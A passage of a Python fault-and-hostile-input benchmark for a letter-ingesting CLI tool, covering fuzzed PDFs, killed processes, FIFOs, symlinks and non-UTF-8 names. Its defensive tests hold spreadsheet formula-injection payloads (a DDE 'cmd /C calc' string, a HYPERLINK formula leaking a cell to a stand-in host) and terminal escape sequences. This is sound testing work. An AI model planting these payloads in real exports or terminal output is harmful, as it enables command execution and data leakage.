"""Faults and what lettermine does with them: one row per class, the way a user meets it.

    python bench/faults.py [--fuzz 500] [--kills 5] [--seed 0] [--only CLASS ...]

Every bad input goes through the command line (`python -m lettermine ingest --no-classify FILE`)
against a database already holding a letter, whose whole content (schema and every row) is
compared before and after. Columns:

- tried: inputs (files, kills, processes)
- clear errors: exit 1 with exactly one line `Error: <file>: <reason>` and no traceback
- no-op: "already stored" (the right answer for a letter ingested twice)
- stored / partial: letters stored whole, and stored with units missing or different (extract
  refuses a PDF with a corrupt Flate stream other than an image's, a hole of zero bytes or an
  object not where its cross-reference table says, so partial is 0 at the default seed; damage
  that still parses, such as a flipped letter in a key like /Contents, can still cost text)
- crashes: a traceback, another exit code, a segfault or a process that failed (must be 0)
- rows changed: rows a failed input changed, lost or duplicated rows (must be 0)

Fuzzing mutates real PDFs (focused visits and, where lettermine.read.inspection exists, ILACS
reports from ../shared/corpus; the sample PDFs where ../shared is absent) by truncation, flipped
bits and zeroed ranges, and reads each with ingest_file in a worker process, so that a segfault
in pdfium is counted and the run goes on. Interruption SIGKILLs `lettermine ingest` part way
through 30 corpus PDFs (skipped without ../shared); concurrency runs two ingests, a loop of
`lettermine actions update` and a tight loop of update_action against one database.

Then the classes of hostile and unlucky input of issue #17, one function each (class_N_...),
in a second table: tried, clear (the outcome the case calls for: a one-line error where the
input is refused, the right and safe result where it is read), crashes, hangs (each case runs
under a timeout), peak RSS of any case (bound: 500 MB), rows changed where nothing should
change, other files changed. `--only formulas escapes numbers documents database history
trackers models` (any of them) runs those alone, in a few minutes; the mount-based cases of
`database`, a read-only folder and a full disk, need root and are skipped (and said so) without.
"""

from __future__ import annotations

import argparse
import hashlib
import importlib.util
import json
import os
import re
import resource
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
from lettermine.corpus import corpus_dir  # noqa: E402

sys.path.insert(0, str(ROOT / "tests"))  # bad_files: the same inputs the tests use
CORPUS = corpus_dir()

from bad_files import (  # noqa: E402
    BAD_INPUTS,
    GOOD_DOCX,
    GOOD_PDF,
    GOOD_TXT,
    LETTER_TEXT,
    cli,
    count_letters,
    distinct_letters,
    fingerprint,
    ingest_until_killed,
    letter_pages,
    make_pdf,
    mutants,
    run_fuzz,
    run_together,
    unprivileged_cli,
    unsound,
)
from hostile import (  # noqa: E402
    HOSTILE_DOCUMENTS,
    broken_models,
    file_hashes,
    files_changed,
    lettermine,
    one_line_error,
    run_measured,
    trackers,
)
from hostile import Run as HRun  # noqa: E402
from hostile import crashed as hostile_crashed  # noqa: E402
from hostile import traceback_in as hostile_traceback  # noqa: E402

from lettermine.errors import LettermineError  # noqa: E402
from lettermine.read.extract import (  # noqa: E402
    MAX_CHARS,
    MAX_INFLATED,
    MAX_MEMORY,
    MAX_PAGES,
    MAX_SECONDS,
    SUFFIXES,
    read_text,
)
from lettermine.read.parse import parse_letter  # noqa: E402


@dataclass
class Row:
    """One class of fault and what happened to its inputs."""

    fault: str
    tried: int = 0
    clear: int = 0
    noop: int = 0
    stored: int = 0
    partial: int = 0
    crashes: int = 0
    changed: int = 0
    note: str = ""


def _rows_changed(before: tuple[dict[str, int], str], after: tuple[dict[str, int], str]) -> int:
    counts_before, hash_before = before
    counts_after, hash_after = after
    tables = set(counts_before) | set(counts_after)
    moved = sum(abs(counts_after.get(t, 0) - counts_before.get(t, 0)) for t in tables)
    return moved or int(hash_before != hash_after)  # same counts, other content: at least 1


def _run(*args: str, db: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(cli(*args, db=db), capture_output=True, text=True, timeout=300)


def _one_line_error(run: subprocess.CompletedProcess[str], path: Path) -> bool:
    errors = [x for x in run.stderr.splitlines() if x.startswith("Error:")]
    return (
        run.returncode == 1
        and "Traceback" not in run.stderr
        and len(errors) == 1
        and errors[0].startswith((f"Error: {path.name}: ", f"Error: {path}: "))
    )


def _crashed(run: subprocess.CompletedProcess[str]) -> bool:
    return run.returncode not in (0, 1) or "Traceback" in run.stderr


def bad_input_rows(work: Path, db: Path) -> list[Row]:
    """Every class of bad input, one CLI run per file, the database compared around each."""
    rows: dict[str, Row] = {}
    folder = work / "bad"
    folder.mkdir()
    for bad in BAD_INPUTS:
        row = rows.setdefault(bad.fault, Row(bad.fault))
        path = bad.write(folder)
        before = fingerprint(db)
        run = _run("ingest", "--no-classify", str(path), db=db)
        row.tried += 1
        row.clear += _one_line_error(run, path) and bad.reason in run.stderr
        row.crashes += _crashed(run)
        row.stored += run.returncode == 0
        row.changed += _rows_changed(before, fingerprint(db))
    return list(rows.values())


def duplicate_row(work: Path, db: Path) -> Row:
    """Each sample letter again, under its own name and renamed: a no-op that says so."""
    row = Row("same letter twice")
    for source in (GOOD_TXT, GOOD_PDF, GOOD_DOCX):
        _run("ingest", "--no-classify", str(source), db=db)
        renamed = work / f"renamed-{source.name}"
        shutil.copy(source, renamed)
        for path in (source, renamed):
            before = fingerprint(db)
            run = _run("ingest", "--no-classify", str(path), db=db)
            row.tried += 1
            row.noop += run.returncode == 0 and f"{path.name}: already stored as letter" in (
                run.stderr
            )
            row.crashes += _crashed(run)
            row.changed += _rows_changed(before, fingerprint(db))
    return row


def mixed_folder_row(work: Path) -> Row:
    """One batch of good and bad files: the good stored exactly as on their own."""
    folder, alone = work / "mixed", work / "alone"
    folder.mkdir()
    alone.mkdir()
    good = [GOOD_TXT, GOOD_PDF, GOOD_DOCX]
    for path in good:
        shutil.copy(path, folder / path.name)
        shutil.copy(path, alone / path.name)
    bad = [b.write(folder) for b in BAD_INPUTS if b.make is not None]
    bad = [p for p in bad if p.suffix in SUFFIXES]  # a folder's other files are passed over
    db, reference = work / "mixed.db", work / "alone.db"
    run = _run("ingest", "--no-classify", str(folder), db=db)
    _run("ingest", "--no-classify", str(alone), db=reference)
    errors = {x.split(":")[1].strip() for x in run.stderr.splitlines() if x.startswith("Error:")}

    def content(path: Path) -> set[tuple[object, ...]]:
        conn = sqlite3.connect(path)
        letters = conn.execute(
            "SELECT sha256, source, kind, authority, inspection_start FROM letters"
        ).fetchall()
        units = conn.execute("SELECT letter_id, seq, kind, text FROM units").fetchall()
        conn.close()
        return set(letters) | set(units)

    return Row(
        "folder of good and bad files",
        tried=len(good) + len(bad),
        clear=len(errors & {p.name for p in bad}),
        stored=count_letters(db),
        crashes=int(_crashed(run) or run.returncode != 1),
        changed=len(content(db) ^ content(reference)),
        note=f"{len(bad)} bad, {len(good)} good in one batch",
    )


def fuzz_rows(work: Path, count: int, seed: int) -> tuple[list[Row], list[str]]:
    """Mutated PDFs through ingest_file in a worker process, one row per kind of mutation."""
    notes: list[str] = []
    sources: list[Path] = []
    focused = CORPUS / "focused" / "pdf"
    if focused.is_dir():
        sources += sorted(focused.glob("*.pdf"))
        if importlib.util.find_spec("lettermine.read.inspection"):
            sources += sorted((CORPUS / "ilacs" / "pdf").glob("*.pdf"))
        else:
            notes.append("ILACS PDFs left out: lettermine.read.inspection is not there yet")
    else:
        made = work / "made.pdf"
        made.write_bytes(make_pdf(letter_pages()))
        sources = [GOOD_PDF, ROOT / "letters" / "brackwater-2023-01-inspection.pdf", made]
        notes.append("../shared is absent: fuzzed the sample PDFs only")
    made_from = {p: (s, how) for p, s, how in mutants(sources, count, work / "mutants", seed)}
    start = time.perf_counter()
    results = run_fuzz(list(made_from), work / "fuzz.db", timeout=3600)
    seconds = time.perf_counter() - start
    whole: dict[Path, list[str]] = {}
    conn = sqlite3.connect(work / "fuzz.db")
    stored_units = {
        source: [
            r[0]
            for r in conn.execute("SELECT text FROM units WHERE letter_id = ? ORDER BY seq", [i])
        ]
        for i, source in conn.execute("SELECT id, source FROM letters")
    }
    conn.close()
    rows: dict[str, Row] = {}
    details: Counter[str] = Counter()
    for r in results:
        source, how = made_from[Path(r.path)]
        row = rows.setdefault(how, Row(f"fuzzed PDF: {how}"))
        row.tried += 1
        if r.outcome == "stored":
            if source not in whole:
                whole[source] = [u.text for u in parse_letter(read_text(source)).units]
            # A mutant the same as another file is stored once: look it up by either name.
            units = stored_units.get(Path(r.path).name)
            if units is None or units == whole[source]:
                row.stored += 1
            else:
                row.partial += 1
        elif r.outcome == "error":
            row.clear += "\n" not in r.detail
            row.changed += r.rows_changed
            details[r.detail.split(": ", 1)[-1][:70]] += 1
        else:
            row.crashes += 1
            notes.append(f"{r.outcome}: {Path(r.path).name}: {r.detail[:200]}")
    notes.append(
        f"fuzz: {len(results)} PDFs from {len(sources)} sources in {seconds:.0f} s; "
        f"errors said: " + "; ".join(f"{n}x {d}" for d, n in details.most_common(4))
    )
    return list(rows.values()), notes


_COUNT_LETTERS = "SELECT count(*), count(DISTINCT sha256) FROM letters"


def interruption_row(work: Path, kills: int) -> Row | None:
    """SIGKILL `lettermine ingest` part way through 30 corpus PDFs, kills times, then finish."""
    focused = CORPUS / "focused" / "pdf"
    if not focused.is_dir():
        return None
    files = sorted(focused.glob("*.pdf"))[:30]
    by_name = {p.name: p for p in files}
    db = work / "killed.db"
    row = Row("SIGKILL during ingest", note="stored = letters checked whole after each kill")
    stored = 0
    step = max(1, (len(files) - 2) // (kills + 1))
    for k in range(kills):
        try:
            stored = ingest_until_killed(files, db, at_least=min(len(files) - 1, stored + step))
        except RuntimeError as e:
            row.note = f"kill {k + 1}: {e}"
            break
        row.tried += 1
        problems = unsound(db, by_name)
        row.partial += len(problems)
        row.stored += stored - len(problems)
    run = _run("ingest", "--no-classify", *map(str, files), db=db)
    row.crashes += run.returncode != 0
    row.partial += len(unsound(db, by_name))
    conn = sqlite3.connect(db)
    letters, distinct = conn.execute(
        "SELECT count(*), count(DISTINCT sha256) FROM letters"
    ).fetchone()
    conn.close()
    row.changed += (letters - distinct) + abs(len(files) - distinct)  # duplicates, or lost
    return row


def concurrency_row(work: Path) -> Row:
    """Two ingests over overlapping batches and two update loops, at once on one database."""
    db = work / "together.db"
    _run("ingest", "--no-classify", str(GOOD_TXT), db=db)
    _run("actions", "add", "--for", "1:1", "--title", "Plans", db=db)
    letters = distinct_letters(work / "letters", 60)
    run = run_together(db, [letters[:40], letters[20:]])
    runs = [*run.ingests, *(r for _, r in run.cli_updates), run.hammer]
    failed = [r for r in runs if r.returncode != 0 or "locked" in r.stderr or "Error" in r.stderr]
    conn = sqlite3.connect(db)
    total, distinct = conn.execute(
        "SELECT count(*), count(DISTINCT sha256) FROM letters"
    ).fetchone()
    notes = [
        r[0]
        for r in conn.execute(
            "SELECT note FROM action_history WHERE action_id = 1 AND event = 'update'"
        )
    ]
    conn.close()
    written = run.written()
    lost = len(Counter(written) - Counter(notes)) + len(Counter(notes) - Counter(written))
    return Row(
        "2 ingests + updates at once",
        tried=len(runs),
        stored=distinct,
        crashes=len(failed),
        changed=(total - distinct) + abs(61 - distinct) + lost,
        note=f"{len(written)} updates recorded ({len(run.cli_updates)} by the CLI)",
    )


# --- names that are not UTF-8 (issue 17, class 4) and files that are not files (class 5) -------
#
# Each case is one CLI run under a timeout: a hang counts as a crash (and in the note). A case
# either should work (the letter stored, the file written: "stored") or should be refused with one
# clear line naming what is wrong ("clear errors"); a refusal must leave the database as it was,
# and no case may change a file outside its scratch folder ("rows changed" counts both).

FF = "\udcff"  # the byte 0xff of a name that is not UTF-8, as Python carries it
CASE_TIMEOUT = 60


@dataclass
class Case:
    """One run: the arguments, and what should come of it."""

    what: str
    args: list[str]
    expect: str  # "stored": exit 0 and check() holds; "clear": exit 1, one Error line
    reason: str = ""  # words the error line must contain ("clear")
    check: Callable[[], bool] | None = None  # for "stored": the result is really there
    command: list[str] | None = None  # instead of python -m lettermine


def _tree_hash(folder: Path) -> str:
    digest = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        if p.is_file() and not p.is_symlink():
            digest.update(str(p).encode("utf-8", "surrogateescape") + p.read_bytes())
    return digest.hexdigest()


def _run_cases(fault: str, cases: list[Case], db: Path, outside: Path) -> tuple[Row, list[str]]:
    row = Row(fault)
    notes: list[str] = []
    hangs = 0
    for case in cases:
        before, outside_before = fingerprint(db), _tree_hash(outside)
        command = case.command or [sys.executable, "-m", "lettermine"]
        row.tried += 1
        try:
            run = subprocess.run(
                [*command, *case.args], capture_output=True, text=True,
                errors="surrogateescape", timeout=CASE_TIMEOUT,
            )  # fmt: skip
        except subprocess.TimeoutExpired:
            hangs += 1
            row.crashes += 1
            notes.append(f"{fault}: {case.what}: HUNG (over {CASE_TIMEOUT} s)")
            continue
        errors = [x for x in run.stderr.splitlines() if x.startswith("Error:")]
        raw_escape = "\x1b" in run.stderr or "\x1b" in run.stdout
        if _crashed(run) or raw_escape:
            row.crashes += 1
            notes.append(f"{fault}: {case.what}: exit {run.returncode}: {run.stderr[-300:]}")
        elif case.expect == "clear":
            ok = run.returncode == 1 and len(errors) == 1 and case.reason in errors[0]
            row.clear += ok
            if not ok:
                notes.append(f"{fault}: {case.what}: not one clear error: {run.stderr[-300:]}")
            row.changed += _rows_changed(before, fingerprint(db))
        else:
            ok = run.returncode == 0 and (case.check is None or case.check())
            row.stored += ok
            if not ok:
                notes.append(f"{fault}: {case.what}: did not work: {run.stderr[-300:]}")
        row.changed += int(_tree_hash(outside) != outside_before)
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    row.note = f"hangs {hangs}, peak RSS of any run so far {peak:.0f} MB"
    return row, notes


def _letters_in(db: Path) -> list[str]:
    conn = sqlite3.connect(db)
    try:
        return [r[0] for r in conn.execute("SELECT source FROM letters ORDER BY id")]
    finally:
        conn.close()


def non_utf8_name_rows(work: Path) -> tuple[list[Row], list[str]]:
    """File names and arguments that are not UTF-8 (or carry control characters)."""
    base = work / "names"
    base.mkdir()
    outside = work / "names-outside"
    outside.mkdir()
    db = base / f"db-{FF}.db"
    folder = base / "inbox"
    folder.mkdir()
    shutil.copy(GOOD_TXT, folder / f"letter-{FF}.txt")
    shutil.copy(GOOD_PDF, folder / f"caf\xe9-{FF}{FF}.pdf")
    shutil.copy(GOOD_DOCX, base / f"jtai-{FF}.docx")
    escape = base / "report\x1b]0;owned\x07\u202e.txt"
    escape.write_text(LETTER_TEXT, encoding="utf-8")
    lm = [sys.executable, "-m", "lettermine"]

    def stored(name: str) -> Callable[[], bool]:
        return lambda: name in _letters_in(db)

    cases = [
        Case(
            "folder holding names with byte 0xff",
            ["ingest", "--no-classify", str(folder), "--db", str(db)],
            "stored",
            check=stored("letter-\\xff.txt"),
        ),  # fmt: skip
        Case(
            "file argument with byte 0xff",
            ["ingest", "--no-classify", str(base / f"jtai-{FF}.docx"), "--db", str(db)],
            "stored",
            check=stored("jtai-\\xff.docx"),
        ),  # fmt: skip
        Case(
            "name with ESC and a bidi override",
            ["ingest", "--no-classify", str(escape), "--db", str(db)],
            "stored",
            check=stored("report\\x1b]0;owned\\x07\\u202e.txt"),
        ),  # fmt: skip
        Case(
            "db backup to a name with 0xff",
            ["db", "backup", str(base / f"copy-{FF}.db"), "--db", str(db)],
            "stored",
            check=lambda: (base / f"copy-{FF}.db").is_file(),
        ),  # fmt: skip
        Case(
            "plan --output with 0xff",
            ["plan", "--letter", "1", "--output", str(base / f"plan-{FF}.docx"), "--db", str(db)],
            "stored",
            check=lambda: (base / f"plan-{FF}.docx").is_file(),
        ),  # fmt: skip
        Case(
            "db path / status of a name with 0xff",
            ["db", "status", "--json", "--db", str(db)],
            "stored",
        ),
        Case(
            "actions import of a missing name with 0xff",
            ["actions", "import", str(base / f"t-{FF}.csv"), "--db", str(db)],
            "clear",
            "no such file",
        ),
        Case(
            "--title with 0xff",
            ["actions", "add", "--for", "1:1", "--title", f"Plan {FF}", "--db", str(db)],
            "clear",
            "not UTF-8",
        ),  # fmt: skip
        Case(
            "--owner with 0xff",
            ["actions", "list", "--owner", FF, "--db", str(db)],
            "clear",
            "not UTF-8",
        ),
        Case(
            "--la with 0xff",
            ["themes", "--la", f"North {FF}", "--db", str(db)],
            "clear",
            "not UTF-8",
        ),
        Case(
            "search query with 0xff",
            ["search", f"caseload{FF}", "--db", str(db)],
            "clear",
            "not UTF-8",
        ),
        Case(
            "--raw query with 0xff",
            ["search", "--raw", f"care{FF}", "--db", str(db)],
            "clear",
            "not UTF-8",
        ),
        Case(
            "label --who with 0xff",
            ["label", "1:1", "--add", "workforce", "--who", FF, "--db", str(db)],
            "clear",
            "not UTF-8",
        ),  # fmt: skip
    ]
    for case in cases:
        case.command = lm
    row, notes = _run_cases("names not UTF-8", cases, db, outside)
    return [row], notes


def special_file_rows(work: Path) -> tuple[list[Row], list[str]]:
    """FIFOs, devices, sockets, links out of a folder, and what cannot be read."""
    import socket

    base = work / "special"
    base.mkdir()
    os.chmod(work, 0o755)  # 'nobody' must reach base (tempfile makes work 0700)
    os.chmod(base, 0o777)
    outside = work / "special-outside"
    outside.mkdir()
    shutil.copy(GOOD_DOCX, outside / GOOD_DOCX.name)
    db = base / "special.db"
    _run("ingest", "--no-classify", str(GOOD_TXT), db=db)
    os.chmod(db, 0o666)
    folder = base / "inbox"
    (folder / "locked").mkdir(parents=True)
    shutil.copy(GOOD_PDF, folder / GOOD_PDF.name)
    shutil.copy(GOOD_DOCX, folder / "locked" / "in-locked.docx")
    shutil.copy(GOOD_PDF, folder / "private.pdf")
    for name in ("x.txt", "y.pdf"):
        os.mkfifo(folder / name)
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(folder / "s.docx"))
    (folder / "out.docx").symlink_to(outside / GOOD_DOCX.name)
    (folder / "zero.txt").symlink_to("/dev/zero")
    (folder / "up").symlink_to(outside)
    for p in [folder, *folder.rglob("*")]:
        if not p.is_symlink() and not p.is_socket():
            os.chmod(p, 0o777 if p.is_dir() else 0o666)
    os.chmod(folder / "locked", 0)
    os.chmod(folder / "private.pdf", 0)
    fifo = base / "lone.txt"
    os.mkfifo(fifo)
    for name in ("t.csv", "p.docx", "f.db"):
        os.mkfifo(base / name)
    (base / "zero.pdf").symlink_to("/dev/zero")
    (base / "dangling.txt").symlink_to(base / "nowhere.txt")
    lm = [sys.executable, "-m", "lettermine"]
    nobody = unprivileged_cli()

    def folder_run() -> bool:
        # the one good letter stored; the letter outside (linked) not read
        return _letters_in(db)[-1] == GOOD_PDF.name and len(_letters_in(db)) == 2

    cases = [
        Case(
            "FIFO x.txt as an argument",
            ["ingest", "--no-classify", str(fifo), "--db", str(db)],
            "clear",
            "a FIFO",
            command=lm,
        ),  # fmt: skip
        Case(
            "link to /dev/zero as an argument",
            ["ingest", "--no-classify", str(base / "zero.pdf"), "--db", str(db)],
            "clear",
            "character device",
            command=lm,
        ),  # fmt: skip
        Case(
            "dangling link as an argument",
            ["ingest", "--no-classify", str(base / "dangling.txt"), "--db", str(db)],
            "clear",
            "leads nowhere",
            command=lm,
        ),  # fmt: skip
        Case(
            "folder as the tracker to import",
            ["actions", "import", str(folder), "--db", str(db)],
            "clear",
            "folder",
            command=lm,
        ),  # fmt: skip
        Case(
            "FIFO as the tracker to import",
            ["actions", "import", str(base / "t.csv"), "--db", str(db)],
            "clear",
            "a FIFO",
            command=lm,
        ),  # fmt: skip
        Case(
            "FIFO as plan --output",
            ["plan", "--letter", "1", "--output", str(base / "p.docx"), "--db", str(db)],
            "clear",
            "a FIFO",
            command=lm,
        ),  # fmt: skip
        Case(
            "FIFO as --db", ["letters", "--db", str(base / "f.db")], "clear", "a FIFO", command=lm
        ),
        Case(
            "/dev/null as --db",
            ["letters", "--db", "/dev/null"],
            "clear",
            "character device",
            command=lm,
        ),
        Case(
            "FIFO as db backup",
            ["db", "backup", str(base / "f.db"), "--db", str(db)],
            "clear",
            "already exists",
            command=lm,
        ),
    ]
    row, notes = _run_cases("not files, not readable", cases, db, outside)
    # The folder: two FIFOs, a socket and an unreadable folder and file are each one Error line
    # (five); the letter beside them is stored; the three links (out of the folder, to a device,
    # to a folder outside) are named and not followed. Run as a user permissions apply to.
    before_out = _tree_hash(outside)
    try:
        run = subprocess.run(
            [*nobody, "ingest", "--no-classify", str(folder), "--db", str(db)],
            capture_output=True, text=True, errors="surrogateescape", timeout=CASE_TIMEOUT,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        row.tried += 1
        row.crashes += 1
        notes.append("not files, not readable: the folder run HUNG")
        return [row], notes
    finally:
        sock.close()
    errors = [x for x in run.stderr.splitlines() if x.startswith("Error:")]
    expected = {"x.txt": "a FIFO", "y.pdf": "a FIFO", "s.docx": "a socket",
                "locked": "folder cannot be read", "private.pdf": "cannot be read"}  # fmt: skip
    named = sum(any(n in e and why in e for e in errors) for n, why in expected.items())
    links = "3 symbolic links not followed" in run.stderr
    row.tried += len(expected) + 3 + 1  # and the good letter beside them
    row.clear += named + 3 * links
    row.stored += folder_run()
    row.crashes += int(_crashed(run))
    row.changed += int(_tree_hash(outside) != before_out)
    if named != len(expected) or not links or len(errors) != len(expected):
        notes.append(f"not files, not readable: folder run: {run.stderr[-600:]}")
    return [row], notes


# ---------------------------------------------------------------------------------------------
# Hostile and unlucky input (#17): one function per class, each a HostileRow. Every case is one
# CLI run (hostile.run_measured: its peak RSS from wait4, killed at a timeout = a hang), with the
# database's content compared around each run that should change nothing, and the hashes of the
# other files in the work folder (foreign databases, documents, trackers) around every run.
# clear: the outcome the case calls for: a one-line `Error:` (exit 1, or 2 for bad usage) where
# the input is refused, or the right, safe result where it is read (CSV cells that start no
# formula, escapes shown as text, a tracker imported whole, a harmless document stored).


@dataclass
class HostileRow:
    """One class of hostile or unlucky input and what happened to its cases."""

    fault: str
    tried: int = 0
    clear: int = 0
    crashes: int = 0
    hangs: int = 0
    peak_mb: float = 0.0
    changed: int = 0
    other_files: int = 0
    note: str = ""
    problems: list[str] = field(default_factory=list)  # the cases that were not clear


def _db_state(db: Path) -> object:
    """The database's content; the bytes of its files where SQLite cannot read it."""
    if not db.exists():
        return None
    try:
        return fingerprint(db)
    except sqlite3.Error:
        files = [db, Path(f"{db}-wal")]
        return [hashlib.sha256(f.read_bytes()).hexdigest() for f in files if f.exists()]


def _others(folder: Path, db: Path | None) -> dict[str, str]:
    # SQLite's own -wal and -shm files come and go with any reader: a database's content is
    # what counts, and an application's file that lettermine touched changes its own bytes.
    name = db.name if db else None
    return file_hashes(folder, skip=lambda p: p.name == name or p.name.endswith(("-wal", "-shm")))


def _probe(
    row: HostileRow,
    args: list[str],
    *,
    db: Path | None,
    folder: Path,
    refused: bool | None,
    words: tuple[str, ...] = (),
    check: Callable[[HRun], bool] | None = None,
    unchanged: bool = True,
    timeout: float = 180,
    env: dict[str, str] | None = None,
) -> HRun:
    """Run one case: refused=True wants a one-line error, False a success passing check, None
    either; unchanged: the database must hold the same content afterwards."""
    before_db = _db_state(db) if db is not None and unchanged else None
    before_files = _others(folder, db)
    run = run_measured(args, timeout=timeout, env=env)
    row.tried += 1
    row.peak_mb = max(row.peak_mb, run.peak_mb)
    row.hangs += run.hung
    row.crashes += hostile_crashed(run)
    ok = run.returncode == 0 and not hostile_traceback(run) and not run.hung
    error = one_line_error(run, *words)
    # refused=None with a check: a batch, some of it refused (exit 1), judged by the check.
    batch = check is not None and run.returncode == 1 and not hostile_traceback(run)
    expected = {True: error, False: ok, None: error or ok or batch}[refused]
    clear = expected and (check is None or check(run))
    row.clear += clear
    changed = int(db is not None and unchanged and _db_state(db) != before_db)
    others = files_changed(before_files, _others(folder, db))
    row.changed += changed
    row.other_files += others
    if not clear or changed or others:
        shown = " ".join(a if len(a) < 40 else a[:37] + "..." for a in args[2:])
        said = (run.stderr.strip().splitlines() or [""])[-1][:120]
        row.problems.append(f"{shown} -> exit {run.returncode}: {said!r}")
    return run


def _hostile_db(folder: Path, name: str, text: str) -> Path:
    """A database holding one letter of this text, classified by no model."""
    folder.mkdir(parents=True, exist_ok=True)
    letter = folder / f"{name}.txt"
    letter.write_text(text, encoding="utf-8")
    db = folder / f"{name}.db"
    run = run_measured(lettermine("ingest", "--no-classify", str(letter), db=db))
    if run.returncode != 0:
        raise SystemExit(f"cannot ingest {letter.name}: {run.stderr}")
    letter.unlink()
    return db


FORMULAS = ['=HYPERLINK("http://x/?"&A1,"x")', "+44 1234 567890", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "x;=1+1", "\uff1d1+1", "a\n=2+2"]  # fmt: skip
_PLAIN = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _csv_safe(text: str) -> bool:
    """No cell, nor any piece a ';'-separated reader would make of a line, starts a formula."""
    import csv as csvlib
    import io as iolib

    def safe(cell: str) -> bool:
        return not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or bool(_PLAIN.fullmatch(cell))

    cells = [c for row in csvlib.reader(iolib.StringIO(text)) for c in row]
    pieces = [p for line in text.splitlines() for p in line.split(";")]
    return (
        bool(cells)
        and all(safe(c) for c in cells)
        and all(safe(p) and safe(p.lstrip('"')) for p in pieces)
    )


def class_1_formula_injection(work: Path) -> HostileRow:
    """Every CSV lettermine writes, from a letter and actions full of formulas."""
    row = HostileRow("1 spreadsheet formula injection")
    folder = work / "c1"
    text = LETTER_TEXT.replace("Children are seen", f"{FORMULAS[0]} Children;=1+1 are seen")
    db = _hostile_db(folder, "formulas", text)
    for i, formula in enumerate(FORMULAS):
        run_measured(lettermine(
            "actions", "add", "--for", "1:1", "--title", formula, "--owner", FORMULAS[-1 - i],
            "--description", formula, "--ref", f"{formula[:5]}{i}", "--due", "2022-03-31",
            "--date", "2021-07-01", db=db))  # fmt: skip
        run_measured(lettermine("actions", "update", str(i + 1), "--note", formula,
                                "--evidence", formula, "--date", "2021-08-01", db=db))  # fmt: skip
    cases = [["actions", "export", "--csv"], ["actions", "list", "--csv"],
             ["actions", "list", "--csv", "--overdue", "--today", "2023-01-01"],
             ["search", "children", "--csv"], ["search", "HYPERLINK", "--csv"],
             ["search", "plans", "--csv", "--newest"]]  # fmt: skip
    exported = ""
    for args in cases:
        run = _probe(row, lettermine(*args, db=db), db=db, folder=folder, refused=False,
                     check=lambda r: _csv_safe(r.stdout))  # fmt: skip
        exported = exported or run.stdout
    # The exported tracker, imported into a second database: every value as it was.
    tracker = folder / "tracker.csv"
    tracker.write_text(exported, encoding="utf-8")
    second = _hostile_db(folder, "second", text)

    def same(run: HRun) -> bool:
        query = "SELECT ref, title, owner, description FROM actions ORDER BY id"
        return [sqlite3.connect(d).execute(query).fetchall() for d in (db, second)] == [
            sqlite3.connect(db).execute(query).fetchall()
        ] * 2

    _probe(row, lettermine("actions", "import", str(tracker), db=second), db=second,
           folder=folder, refused=False, check=same, unchanged=False)  # fmt: skip
    # The tracker as an Excel workbook (written outside the compared folder): no text cell
    # starts a formula; and imported into a third database it restores every table exactly.
    book = work / "c1-out" / "tracker.xlsx"
    book.parent.mkdir(parents=True, exist_ok=True)
    _probe(row, lettermine("actions", "export", "--xlsx", str(book), db=db), db=db,
           folder=folder, refused=False, check=lambda r: _xlsx_safe(book))  # fmt: skip
    third = _hostile_db(folder, "third", text)

    def restored(run: HRun) -> bool:
        tables = [f"SELECT * FROM {t} ORDER BY 1" for t in ("actions", "action_history")]
        return all(sqlite3.connect(db).execute(q).fetchall()
                   == sqlite3.connect(third).execute(q).fetchall() for q in tables)  # fmt: skip

    _probe(row, lettermine("actions", "import", str(book), db=third), db=third,
           folder=folder, refused=False, check=restored, unchanged=False)  # fmt: skip
    row.note = (
        f"{len(FORMULAS)} formula-like values in titles, owners, refs, notes and letters; "
        "CSV and xlsx"
    )
    return row


def _xlsx_safe(book: Path) -> bool:
    """No text cell of any sheet starts a formula (but a plain number), and no cell is one."""
    import openpyxl

    cells = [c for ws in openpyxl.load_workbook(book).worksheets for r in ws.iter_rows() for c in r]
    text = [c.value for c in cells if isinstance(c.value, str)]
    starts = ("=", "+", "-", "@", "\t", "\r")
    return (
        bool(text)
        and all(c.data_type != "f" for c in cells)
        and all(not t.startswith(starts) or _PLAIN.fullmatch(t) for t in text)
    )


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b0m\u202eevil\x08\x00"
_RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def class_2_terminal_escapes(work: Path) -> HostileRow:
    """A letter, titles, notes and arguments carrying terminal escapes: none printed raw."""
    row = HostileRow("2 terminal escape injection")
    folder = work / "c2"
    db = _hostile_db(
        folder,
        "escapes",
        LETTER_TEXT.replace("Children are seen", f"Children {ESCAPES[:-1]} are seen"),
    )
    esc = ESCAPES[:-1]  # argv cannot carry NUL
    run_measured(
        lettermine(
            "actions",
            "add",
            "--for",
            "1:1",
            "--title",
            f"T {esc}",
            "--owner",
            esc,
            "--due",
            "2022-03-31",
            "--date",
            "2021-07-01",
            db=db,
        )
    )
    run_measured(lettermine("actions", "update", "1", "--note", esc, "--date", "2021-08-01",
                            db=db))  # fmt: skip

    def clean(run: HRun) -> bool:
        return not _RAW.search(run.stdout) and not _RAW.search(run.stderr)

    reads = [["show", "1"], ["search", "children"], ["search", "owned", "--raw"], ["letters"],
             ["actions", "list"], ["actions", "show", "1"], ["actions", "coverage"],
             ["actions", "recurring"], ["show", "1", "--json"], ["actions", "export"],
             ["search", "children", "--json"], ["actions", "list", "--owner", esc]]  # fmt: skip
    for args in reads:
        _probe(row, lettermine(*args, db=db), db=db, folder=folder, refused=False, check=clean)
    errors = [["themes", "--la", esc], ["search", esc, "--kind", esc],
              ["actions", "status", "1", esc], ["show", esc], ["actions", "add", "--title", "x",
              "--due", esc], ["search", "x", "--db", str(folder / f"{esc}.db")]]  # fmt: skip
    for args in errors:
        _probe(row, lettermine(*args, db=db if "--db" not in args else None), db=db,
